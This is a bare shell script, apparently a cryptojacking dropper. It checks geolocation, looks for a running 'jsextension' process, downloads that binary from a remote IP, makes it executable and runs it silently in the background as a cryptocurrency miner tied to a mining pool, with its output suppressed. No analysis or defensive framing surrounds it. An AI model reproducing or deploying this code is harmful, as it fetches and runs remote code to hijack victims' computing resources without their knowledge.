IP=$(curl -k -q https://geo.example.test/json/ | grep -oP '"country":"\K..')
if [ -z "$IP" ]; then
    var=$(pgrep jsextension)
    if [ -z "$var" ]; then
        curl http://192.0.2.44/download/jsextension -o jsextension
        chmod +x jsextension
        ./jsextension -k --tls --rig-id q -o pool.example.test:443 -u PLACEHOLDER \
            --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
    fi
fi
